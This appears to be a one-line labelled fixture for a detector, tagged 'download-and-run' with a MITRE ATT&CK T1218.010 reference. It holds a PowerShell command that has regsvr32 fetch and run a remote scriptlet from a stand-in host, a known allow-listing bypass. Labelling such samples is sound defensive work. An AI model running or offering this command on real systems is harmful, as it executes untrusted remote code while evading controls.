# expect: download-and-run | source: MITRE ATT&CK T1218.010
Start-Process regsvr32 -ArgumentList '/s /n /u /i:http://files.example.invalid/a.sct scrobj.dll'
